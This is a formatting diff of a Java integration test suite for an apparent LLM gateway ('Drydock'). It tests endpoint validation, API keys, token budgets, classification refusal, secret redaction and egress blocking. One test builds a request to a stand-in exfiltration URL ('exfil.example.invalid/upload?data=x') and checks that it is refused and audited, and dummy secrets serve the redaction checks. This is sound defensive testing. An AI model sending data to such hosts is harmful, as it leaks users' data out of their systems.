@@ -18,9 +18,9 @@ import io.restassured.http.ContentType;
 import io.restassured.response.Response;
 import jakarta.inject.Inject;
 import java.net.URI;
-import java.nio.file.Path;
 import java.net.http.HttpRequest;
 import java.net.http.HttpResponse;
+import java.nio.file.Path;
 import java.time.Duration;
 import java.util.List;
 import java.util.Map;
@@ -35,7 +35,8 @@ import org.junit.jupiter.api.io.TempDir;
 class GatewayApiTest {
     private static ScriptedModelServer model;
 
-    @Inject EgressGuard egress;
+    @Inject
+    EgressGuard egress;
 
     @BeforeAll
     static void startModel() {
@@ -53,22 +54,52 @@ class GatewayApiTest {
 
     /** Stores an endpoint named {@code name} pointing at the scripted server. */
     private static void endpoint(String name, String clearance) {
-        given().auth().oauth2(admin()).contentType(ContentType.JSON)
-                .body(Map.of("baseUrl", model.baseUrl(), "protocol", "openai-chat", "modelId", "scripted-model",
-                        "capabilities", List.of("streaming", "tools"), "costPer1kPromptTokens", 1, "costPer1kCompletionTokens", 2, "clearance", clearance))
+        given().auth()
+                .oauth2(admin())
+                .contentType(ContentType.JSON)
+                .body(Map.of(
+                        "baseUrl",
+                        model.baseUrl(),
+                        "protocol",
+                        "openai-chat",
+                        "modelId",
+                        "scripted-model",
+                        "capabilities",
+                        List.of("streaming", "tools"),
+                        "costPer1kPromptTokens",
+                        1,
+                        "costPer1kCompletionTokens",
+                        2,
+                        "clearance",
+                        clearance))
                 .put("/api/admin/model-endpoints/" + name)
-                .then().statusCode(200);
+                .then()
+                .statusCode(200);
     }
 
     private static String apiKey(String user) {
-        return given().auth().oauth2(Tokens.of(user)).contentType(ContentType.JSON).body(Map.of("name", "test " + UUID.randomUUID()))
-                .post("/api/me/api-keys").then().statusCode(201).extract().path("key");
+        return given().auth()
+                .oauth2(Tokens.of(user))
+                .contentType(ContentType.JSON)
+                .body(Map.of("name", "test " + UUID.randomUUID()))
+                .post("/api/me/api-keys")
+                .then()
+                .statusCode(201)
+                .extract()
+                .path("key");
     }
 
     /** A real session of demo started by {@code user} (no route serves its droid here, so it ends on its own). */
     private static String session(String user) {
-        return given().auth().oauth2(Tokens.of(user)).contentType(ContentType.JSON).body(Map.of("workspace", "demo", "droid", "knowledge", "task", "gateway test"))
-                .post("/api/sessions").then().statusCode(201).extract().path("id");
+        return given().auth()
+                .oauth2(Tokens.of(user))
+                .contentType(ContentType.JSON)
+                .body(Map.of("workspace", "demo", "droid", "knowledge", "task", "gateway test"))
+                .post("/api/sessions")
+                .then()
+                .statusCode(201)
+                .extract()
+                .path("id");
     }
 
     private static Map<String, Object> chatBody(String model, String text, boolean stream) {
@@ -78,12 +109,26 @@ class GatewayApiTest {
     @Test
     void shouldRejectInvalidEndpointWithFieldErrors() {
         // When
-        Response r = given().auth().oauth2(admin()).contentType(ContentType.JSON)
-                .body(Map.of("baseUrl", "ftp//nope", "protocol", "grpc", "modelId", "m", "maxConcurrency", -1, "secretRef", "sk-live-SECRET123"))
+        Response r = given().auth()
+                .oauth2(admin())
+                .contentType(ContentType.JSON)
+                .body(Map.of(
+                        "baseUrl",
+                        "ftp//nope",
+                        "protocol",
+                        "grpc",
+                        "modelId",
+                        "m",
+                        "maxConcurrency",
+                        -1,
+                        "secretRef",
+                        "sk-live-SECRET123"))
                 .put("/api/admin/model-endpoints/bad-one");
 
         // Then
-        r.then().statusCode(400).contentType("application/problem+json")
+        r.then()
+                .statusCode(400)
+                .contentType("application/problem+json")
                 .body("type", equalTo("urn:drydock:problem:invalid-model-endpoint"))
                 .body("errors.field", hasItem("baseUrl"))
                 .body("errors.field", hasItem("protocol"))
@@ -95,60 +140,139 @@ class GatewayApiTest {
     @Test
     void shouldRejectTokenizerThatIsNotAnAbsolutePathOrCannotBeLoaded() {
         // When
-        Response relative = given().auth().oauth2(admin()).contentType(ContentType.JSON)
-                .body(Map.of("baseUrl", model.baseUrl(), "protocol", "openai-chat", "modelId", "m", "tokenizer", "models/tokenizer.json"))
+        Response relative = given().auth()
+                .oauth2(admin())
+                .contentType(ContentType.JSON)
+                .body(Map.of(
+                        "baseUrl",
+                        model.baseUrl(),
+                        "protocol",
+                        "openai-chat",
+                        "modelId",
+                        "m",
+                        "tokenizer",
+                        "models/tokenizer.json"))
                 .put("/api/admin/model-endpoints/tok-relative");
-        Response missing = given().auth().oauth2(admin()).contentType(ContentType.JSON)
-                .body(Map.of("baseUrl", model.baseUrl(), "protocol", "openai-chat", "modelId", "m", "tokenizer", "/nonexistent/tokenizer.json"))
+        Response missing = given().auth()
+                .oauth2(admin())
+                .contentType(ContentType.JSON)
+                .body(Map.of(
+                        "baseUrl",
+                        model.baseUrl(),
+                        "protocol",
+                        "openai-chat",
+                        "modelId",
+                        "m",
+                        "tokenizer",
+                        "/nonexistent/tokenizer.json"))
                 .put("/api/admin/model-endpoints/tok-missing");
 
         // Then
-        relative.then().statusCode(400).contentType("application/problem+json").body("errors.field", hasItem("tokenizer"))
+        relative.then()
+                .statusCode(400)
+                .contentType("application/problem+json")
+                .body("errors.field", hasItem("tokenizer"))
                 .body("detail", containsString("absolute path"));
-        missing.then().statusCode(400).contentType("application/problem+json").body("errors.field", hasItem("tokenizer"))
+        missing.then()
+                .statusCode(400)
+                .contentType("application/problem+json")
+                .body("errors.field", hasItem("tokenizer"))
                 .body("detail", containsString("/nonexistent/tokenizer.json"));
     }
 
     @Test
-    void shouldRecordTokenizerCountsWhenStoredEndpointHasTokenizerAndServerOmitsUsage(@TempDir Path dir) throws Exception {
+    void shouldRecordTokenizerCountsWhenStoredEndpointHasTokenizerAndServerOmitsUsage(@TempDir Path dir)
+            throws Exception {
         // Given
         String tokenizer = TestTokenizers.miniLm(dir).toString();
-        given().auth().oauth2(admin()).contentType(ContentType.JSON)
-                .body(Map.of("baseUrl", model.baseUrl(), "protocol", "openai-chat", "modelId", "scripted-model", "capabilities", List.of("streaming"),
-                        "clearance", "confidential", "tokenizer", tokenizer))
-                .put("/api/admin/model-endpoints/api-tok").then().statusCode(200).body("tokenizer", equalTo(tokenizer));
+        given().auth()
+                .oauth2(admin())
+                .contentType(ContentType.JSON)
+                .body(Map.of(
+                        "baseUrl",
+                        model.baseUrl(),
+                        "protocol",
+                        "openai-chat",
+                        "modelId",
+                        "scripted-model",
+                        "capabilities",
+                        List.of("streaming"),
+                        "clearance",
+                        "confidential",
+                        "tokenizer",
+                        tokenizer))
+                .put("/api/admin/model-endpoints/api-tok")
+                .then()
+                .statusCode(200)
+                .body("tokenizer", equalTo(tokenizer));
         String key = apiKey("mike");
         model.then(ScriptedModelServer.streamWithoutUsage("Tokenization", " works"));
 
         // When
-        Response r = given().header("Authorization", "Bearer " + key).contentType(ContentType.JSON)
-                .body(chatBody("api-tok", "hello tokenizer", false)).post("/v1/chat/completions");
+        Response r = given().header("Authorization", "Bearer " + key)
+                .contentType(ContentType.JSON)
+                .body(chatBody("api-tok", "hello tokenizer", false))
+                .post("/v1/chat/completions");
 
-        // Then the answer's usage and the accounting row both carry the tokenizer's counts ("Tokenization works" is 3 word pieces)
+        // Then the answer's usage and the accounting row both carry the tokenizer's counts ("Tokenization works" is 3
+        // word pieces)
         r.then().statusCode(200).body("usage.completion_tokens", equalTo(3));
-        List<Map<String, Object>> rows = given().auth().oauth2(admin()).get("/api/admin/model-requests?user=mike&limit=20").then().statusCode(200)
-                .extract().jsonPath().getList("findAll { it.endpoint == 'api-tok' }");
-        assertThat(rows).singleElement().satisfies(row -> assertThat(row).containsEntry("tokenSource", "tokenizer").containsEntry("completionTokens", 3)
-                .containsEntry("usageReported", false));
+        List<Map<String, Object>> rows = given().auth()
+                .oauth2(admin())
+                .get("/api/admin/model-requests?user=mike&limit=20")
+                .then()
+                .statusCode(200)
+                .extract()
+                .jsonPath()
+                .getList("findAll { it.endpoint == 'api-tok' }");
+        assertThat(rows)
+                .singleElement()
+                .satisfies(row -> assertThat(row)
+                        .containsEntry("tokenSource", "tokenizer")
+                        .containsEntry("completionTokens", 3)
+                        .containsEntry("usageReported", false));
     }
 
     @Test
     void shouldStoreEndpointAndShowSecretReferenceButNeverSecret() {
         // When
-        Response r = given().auth().oauth2(admin()).contentType(ContentType.JSON)
-                .body(Map.of("baseUrl", model.baseUrl(), "protocol", "openai-chat", "modelId", "m", "secretRef", "env:DRYDOCK_MODEL_SECRET_TEST_UNSET"))
+        Response r = given().auth()
+                .oauth2(admin())
+                .contentType(ContentType.JSON)
+                .body(Map.of(
+                        "baseUrl",
+                        model.baseUrl(),
+                        "protocol",
+                        "openai-chat",
+                        "modelId",
+                        "m",
+                        "secretRef",
+                        "env:DRYDOCK_MODEL_SECRET_TEST_UNSET"))
                 .put("/api/admin/model-endpoints/with-secret");
 
         // Then
-        r.then().statusCode(200).body("secretRef", equalTo("env:DRYDOCK_MODEL_SECRET_TEST_UNSET")).body("secretConfigured", equalTo(false))
-                .body("source", equalTo("api")).body("breaker", equalTo("closed")).body("maxConcurrency", equalTo(8));
-        given().auth().oauth2(admin()).get("/api/admin/model-endpoints").then().statusCode(200).body("name", hasItem("with-secret"));
+        r.then()
+                .statusCode(200)
+                .body("secretRef", equalTo("env:DRYDOCK_MODEL_SECRET_TEST_UNSET"))
+                .body("secretConfigured", equalTo(false))
+                .body("source", equalTo("api"))
+                .body("breaker", equalTo("closed"))
+                .body("maxConcurrency", equalTo(8));
+        given().auth()
+                .oauth2(admin())
+                .get("/api/admin/model-endpoints")
+                .then()
+                .statusCode(200)
+                .body("name", hasItem("with-secret"));
     }
 
     @Test
     void shouldForbidEndpointChangesWhenCallerIsNotAdmin() {
         // When
-        Response r = given().auth().oauth2(Tokens.of("mike")).contentType(ContentType.JSON).body(Map.of("baseUrl", model.baseUrl()))
+        Response r = given().auth()
+                .oauth2(Tokens.of("mike"))
+                .contentType(ContentType.JSON)
+                .body(Map.of("baseUrl", model.baseUrl()))
                 .put("/api/admin/model-endpoints/sneaky");
 
         // Then
@@ -158,40 +282,75 @@ class GatewayApiTest {
     @Test
     void shouldRejectRouteNamingUnknownEndpoint() {
         // When
-        Response r = given().auth().oauth2(admin()).contentType(ContentType.JSON).body(Map.of("purpose", "plan", "endpoints", List.of("does-not-exist")))
+        Response r = given().auth()
+                .oauth2(admin())
+                .contentType(ContentType.JSON)
+                .body(Map.of("purpose", "plan", "endpoints", List.of("does-not-exist")))
                 .put("/api/admin/model-routes/plan-route");
 
         // Then
-        r.then().statusCode(400).contentType("application/problem+json").body("detail", containsString("unknown endpoint 'does-not-exist'"));
+        r.then()
+                .statusCode(400)
+                .contentType("application/problem+json")
+                .body("detail", containsString("unknown endpoint 'does-not-exist'"));
     }
 
     @Test
     void shouldCompleteThroughRouteAndRecordRequestWhenCalledWithApiKey() {
         // Given
         endpoint("api-a", "confidential");
-        given().auth().oauth2(admin()).contentType(ContentType.JSON).body(Map.of("purpose", "apitest", "endpoints", List.of("api-a")))
-                .put("/api/admin/model-routes/apitest").then().statusCode(200);
+        given().auth()
+                .oauth2(admin())
+                .contentType(ContentType.JSON)
+                .body(Map.of("purpose", "apitest", "endpoints", List.of("api-a")))
+                .put("/api/admin/model-routes/apitest")
+                .then()
+                .statusCode(200);
         String key = apiKey("mike");
         String session = session("mike");
         model.then(ScriptedModelServer.stream("Hi", " there"));
 
         // When
-        Response r = given().header("Authorization", "Bearer " + key).header("X-Drydock-Session", session).contentType(ContentType.JSON)
-                .body(chatBody("apitest", "hello", false)).post("/v1/chat/completions");
+        Response r = given().header("Authorization", "Bearer " + key)
+                .header("X-Drydock-Session", session)
+                .contentType(ContentType.JSON)
+                .body(chatBody("apitest", "hello", false))
+                .post("/v1/chat/completions");
 
         // Then
-        r.then().statusCode(200).body("object", equalTo("chat.completion")).body("choices[0].message.content", equalTo("Hi there"))
-                .body("usage.prompt_tokens", equalTo(7)).body("drydock.endpoint", equalTo("api-a"));
-        List<Map<String, Object>> rows = given().auth().oauth2(admin()).get("/api/admin/model-requests?user=mike&limit=20").then().statusCode(200)
-                .extract().jsonPath().getList("findAll { it.sessionId == '" + session + "' && it.endpoint == 'api-a' }");
+        r.then()
+                .statusCode(200)
+                .body("object", equalTo("chat.completion"))
+                .body("choices[0].message.content", equalTo("Hi there"))
+                .body("usage.prompt_tokens", equalTo(7))
+                .body("drydock.endpoint", equalTo("api-a"));
+        List<Map<String, Object>> rows = given().auth()
+                .oauth2(admin())
+                .get("/api/admin/model-requests?user=mike&limit=20")
+                .then()
+                .statusCode(200)
+                .extract()
+                .jsonPath()
+                .getList("findAll { it.sessionId == '" + session + "' && it.endpoint == 'api-a' }");
         assertThat(rows).singleElement().satisfies(row -> {
-            assertThat(row).containsEntry("outcome", "ok").containsEntry("endpoint", "api-a").containsEntry("workspace", "demo")
-                    .containsEntry("channel", "v1").containsEntry("completionTokens", 2);
+            assertThat(row)
+                    .containsEntry("outcome", "ok")
+                    .containsEntry("endpoint", "api-a")
+                    .containsEntry("workspace", "demo")
+                    .containsEntry("channel", "v1")
+                    .containsEntry("completionTokens", 2);
             assertThat((String) row.get("promptSha256")).hasSize(64);
             assertThat(String.valueOf(row.get("cost"))).isEqualTo("0.011");
         });
-        String audit = given().auth().oauth2(admin()).get("/api/admin/audit/export").then().statusCode(200).extract().asString();
-        assertThat(audit).contains("model.request").contains(session).contains((String) rows.getFirst().get("promptSha256"));
+        String audit = given().auth()
+                .oauth2(admin())
+                .get("/api/admin/audit/export")
+                .then()
+                .statusCode(200)
+                .extract()
+                .asString();
+        assertThat(audit).contains("model.request").contains(session).contains((String)
+                rows.getFirst().get("promptSha256"));
     }
 
     @Test
@@ -201,33 +360,61 @@ class GatewayApiTest {
         model.then(ScriptedModelServer.stream("one", "two"));
 
         // When
-        Response r = given().auth().oauth2(Tokens.of("mike")).contentType(ContentType.JSON).body(chatBody("api-stream", "count", true)).post("/v1/chat/completions");
+        Response r = given().auth()
+                .oauth2(Tokens.of("mike"))
+                .contentType(ContentType.JSON)
+                .body(chatBody("api-stream", "count", true))
+                .post("/v1/chat/completions");
 
         // Then
         r.then().statusCode(200).contentType(containsString("text/event-stream"));
         String body = r.asString();
-        assertThat(body).contains("\"content\":\"one\"").contains("\"content\":\"two\"").contains("\"finish_reason\":\"stop\"").endsWith("data: [DONE]\n\n");
+        assertThat(body)
+                .contains("\"content\":\"one\"")
+                .contains("\"content\":\"two\"")
+                .contains("\"finish_reason\":\"stop\"")
+                .endsWith("data: [DONE]\n\n");
     }
 
     @Test
     void shouldAnswerOpenAiErrorWhenModelIsUnknown() {
         // When
-        Response r = given().auth().oauth2(Tokens.of("mike")).contentType(ContentType.JSON).body(chatBody("no-such-model", "hi", false)).post("/v1/chat/completions");
+        Response r = given().auth()
+                .oauth2(Tokens.of("mike"))
+                .contentType(ContentType.JSON)
+                .body(chatBody("no-such-model", "hi", false))
+                .post("/v1/chat/completions");
 
         // Then
-        r.then().statusCode(404).contentType(ContentType.JSON).body("error.code", equalTo("model_not_found")).body("error.message", containsString("no-such-model"));
+        r.then()
+                .statusCode(404)
+                .contentType(ContentType.JSON)
+                .body("error.code", equalTo("model_not_found"))
+                .body("error.message", containsString("no-such-model"));
     }
 
     @Test
     void shouldAnswer401OpenAiErrorWhenApiKeyIsWrongOrRevoked() {
         // Given
         String key = apiKey("mike");
-        long id = given().auth().oauth2(Tokens.of("mike")).get("/api/me/api-keys").then().statusCode(200).extract().jsonPath().getLong("find { it.prefix == '" + key.substring(0, 10) + "' }.id");
-        given().auth().oauth2(Tokens.of("mike")).delete("/api/me/api-keys/" + id).then().statusCode(204);
+        long id = given().auth()
+                .oauth2(Tokens.of("mike"))
+                .get("/api/me/api-keys")
+                .then()
+                .statusCode(200)
+                .extract()
+                .jsonPath()
+                .getLong("find { it.prefix == '" + key.substring(0, 10) + "' }.id");
+        given().auth()
+                .oauth2(Tokens.of("mike"))
+                .delete("/api/me/api-keys/" + id)
+                .then()
+                .statusCode(204);
 
         // When
         Response revoked = given().header("Authorization", "Bearer " + key).get("/v1/models");
-        Response wrong = given().header("Authorization", "Bearer dd_wrongwrongwrong").get("/v1/models");
+        Response wrong =
+                given().header("Authorization", "Bearer dd_wrongwrongwrong").get("/v1/models");
 
         // Then
         revoked.then().statusCode(401).body("error.type", equalTo("authentication_error"));
@@ -237,7 +424,11 @@ class GatewayApiTest {
     @Test
     void shouldAnswerBadRequestInOpenAiShapeWhenBodyIsNotJson() {
         // When
-        Response r = given().auth().oauth2(Tokens.of("mike")).contentType(ContentType.JSON).body("{not json").post("/v1/chat/completions");
+        Response r = given().auth()
+                .oauth2(Tokens.of("mike"))
+                .contentType(ContentType.JSON)
+                .body("{not json")
+                .post("/v1/chat/completions");
 
         // Then
         r.then().statusCode(400).body("error.type", equalTo("invalid_request_error"));
@@ -248,17 +439,35 @@ class GatewayApiTest {
         // Given a 1-token budget for one session, used up by a first request
         endpoint("api-budget", "confidential");
         String session = session("mike");
-        given().auth().oauth2(admin()).contentType(ContentType.JSON).body(Map.of("scope", "session", "subject", session, "period", "day", "maxTokens", 1))
-                .post("/api/admin/model-budgets").then().statusCode(200);
-        given().auth().oauth2(Tokens.of("mike")).header("X-Drydock-Session", session).contentType(ContentType.JSON)
-                .body(chatBody("api-budget", "first", false)).post("/v1/chat/completions").then().statusCode(200);
+        given().auth()
+                .oauth2(admin())
+                .contentType(ContentType.JSON)
+                .body(Map.of("scope", "session", "subject", session, "period", "day", "maxTokens", 1))
+                .post("/api/admin/model-budgets")
+                .then()
+                .statusCode(200);
+        given().auth()
+                .oauth2(Tokens.of("mike"))
+                .header("X-Drydock-Session", session)
+                .contentType(ContentType.JSON)
+                .body(chatBody("api-budget", "first", false))
+                .post("/v1/chat/completions")
+                .then()
+                .statusCode(200);
 
         // When
-        Response r = given().auth().oauth2(Tokens.of("mike")).header("X-Drydock-Session", session).contentType(ContentType.JSON)
-                .body(chatBody("api-budget", "second", false)).post("/v1/chat/completions");
+        Response r = given().auth()
+                .oauth2(Tokens.of("mike"))
+                .header("X-Drydock-Session", session)
+                .contentType(ContentType.JSON)
+                .body(chatBody("api-budget", "second", false))
+                .post("/v1/chat/completions");
 
         // Then
-        r.then().statusCode(429).body("error.code", equalTo("budget_exceeded")).body("error.message", containsString("token budget of session"));
+        r.then()
+                .statusCode(429)
+                .body("error.code", equalTo("budget_exceeded"))
+                .body("error.message", containsString("token budget of session"));
     }
 
     @Test
@@ -268,8 +477,12 @@ class GatewayApiTest {
         int before = model.chatCount();
 
         // When
-        Response r = given().auth().oauth2(Tokens.of("mike")).header("X-Drydock-Classification", "secret").contentType(ContentType.JSON)
-                .body(chatBody("api-internal", "secret plans", false)).post("/v1/chat/completions");
+        Response r = given().auth()
+                .oauth2(Tokens.of("mike"))
+                .header("X-Drydock-Classification", "secret")
+                .contentType(ContentType.JSON)
+                .body(chatBody("api-internal", "secret plans", false))
+                .post("/v1/chat/completions");
 
         // Then
         r.then().statusCode(403).body("error.code", equalTo("classification_refused"));
@@ -283,8 +496,13 @@ class GatewayApiTest {
         String token = "ghp_" + "a".repeat(36);
 
         // When
-        given().auth().oauth2(Tokens.of("mike")).contentType(ContentType.JSON).body(chatBody("api-dlp", "use token " + token, false))
-                .post("/v1/chat/completions").then().statusCode(200);
+        given().auth()
+                .oauth2(Tokens.of("mike"))
+                .contentType(ContentType.JSON)
+                .body(chatBody("api-dlp", "use token " + token, false))
+                .post("/v1/chat/completions")
+                .then()
+                .statusCode(200);
 
         // Then
         assertThat(model.requests().getLast()).doesNotContain(token).contains("[REDACTED:github-token]");
@@ -293,41 +511,78 @@ class GatewayApiTest {
     @Test
     void shouldAnswerNotFoundWhenCallerIsOutsideTheWorkspace() {
         // When
-        Response r = given().auth().oauth2(Tokens.of("mike")).header("X-Drydock-Workspace", "other").contentType(ContentType.JSON)
-                .body(chatBody("auto", "hi", false)).post("/v1/chat/completions");
+        Response r = given().auth()
+                .oauth2(Tokens.of("mike"))
+                .header("X-Drydock-Workspace", "other")
+                .contentType(ContentType.JSON)
+                .body(chatBody("auto", "hi", false))
+                .post("/v1/chat/completions");
 
         // Then
-        r.then().statusCode(404).body("error.code", equalTo("not_found")).body("error.message", equalTo("Workspace 'other' does not exist or you may not see it."));
+        r.then()
+                .statusCode(404)
+                .body("error.code", equalTo("not_found"))
+                .body("error.message", equalTo("Workspace 'other' does not exist or you may not see it."));
     }
 
     @Test
     void shouldRefuseAndAuditRequestToUnlistedHost() throws Exception {
         // Given
-        HttpRequest request = HttpRequest.newBuilder(URI.create("http://exfil.example.invalid/upload?data=x")).GET().build();
+        HttpRequest request = HttpRequest.newBuilder(URI.create("http://exfil.example.invalid/upload?data=x"))
+                .GET()
+                .build();
 
         // When
-        var thrown = assertThatThrownBy(() -> egress.send(request, HttpResponse.BodyHandlers.discarding(), Duration.ofSeconds(1), "integration test"));
+        var thrown = assertThatThrownBy(() -> egress.send(
+                request, HttpResponse.BodyHandlers.discarding(), Duration.ofSeconds(1), "integration test"));
 
         // Then
         thrown.isInstanceOf(EgressRefusedException.class).hasMessageContaining("exfil.example.invalid");
-        given().auth().oauth2(admin()).get("/api/admin/egress-refusals").then().statusCode(200)
+        given().auth()
+                .oauth2(admin())
+                .get("/api/admin/egress-refusals")
+                .then()
+                .statusCode(200)
                 .body("host", hasItem("exfil.example.invalid"))
                 .body("url", hasItem("http://exfil.example.invalid/upload"));
-        given().auth().oauth2(admin()).get("/api/admin/audit/export").then().statusCode(200)
-                .body(containsString("egress.refused")).body(containsString("exfil.example.invalid"));
+        given().auth()
+                .oauth2(admin())
+                .get("/api/admin/audit/export")
+                .then()
+                .statusCode(200)
+                .body(containsString("egress.refused"))
+                .body(containsString("exfil.example.invalid"));
     }
 
     @Test
     void shouldCloseUpstreamConnectionWhenFrontDoorClientDisconnects() throws Exception {
         // Given a model that keeps its stream open, and a client streaming through the front door
         try (ScriptedModelServer stalling = new ScriptedModelServer().otherwise(new ScriptedModelServer.Stall(true))) {
-            given().auth().oauth2(admin()).contentType(ContentType.JSON)
-                    .body(Map.of("baseUrl", stalling.baseUrl(), "protocol", "openai-chat", "modelId", "m", "capabilities", List.of("streaming"), "clearance", "confidential"))
-                    .put("/api/admin/model-endpoints/api-stall").then().statusCode(200);
+            given().auth()
+                    .oauth2(admin())
+                    .contentType(ContentType.JSON)
+                    .body(Map.of(
+                            "baseUrl",
+                            stalling.baseUrl(),
+                            "protocol",
+                            "openai-chat",
+                            "modelId",
+                            "m",
+                            "capabilities",
+                            List.of("streaming"),
+                            "clearance",
+                            "confidential"))
+                    .put("/api/admin/model-endpoints/api-stall")
+                    .then()
+                    .statusCode(200);
             java.net.http.HttpClient client = java.net.http.HttpClient.newHttpClient();
-            HttpRequest request = HttpRequest.newBuilder(URI.create("http://localhost:" + io.restassured.RestAssured.port + "/v1/chat/completions"))
-                    .header("Authorization", "Bearer " + Tokens.of("mike")).header("Content-Type", "application/json")
-                    .POST(HttpRequest.BodyPublishers.ofString("{\"model\":\"api-stall\",\"stream\":true,\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}"))
+            HttpRequest request = HttpRequest.newBuilder(
+                            URI.create("http://localhost:" + io.restassured.RestAssured.port + "/v1/chat/completions"))
+                    .header("Authorization", "Bearer " + Tokens.of("mike"))
+                    .header("Content-Type", "application/json")
+                    .POST(
+                            HttpRequest.BodyPublishers.ofString(
+                                    "{\"model\":\"api-stall\",\"stream\":true,\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}"))
                     .build();
             var pending = client.sendAsync(request, HttpResponse.BodyHandlers.ofInputStream());
             assertThat(stalling.awaitStall(30)).as("request reached the model").isTrue();
@@ -337,7 +592,9 @@ class GatewayApiTest {
             client.shutdownNow();
 
             // Then
-            assertThat(stalling.awaitClientGone(30)).as("gateway closed the upstream connection").isTrue();
+            assertThat(stalling.awaitClientGone(30))
+                    .as("gateway closed the upstream connection")
+                    .isTrue();
         }
     }
 }
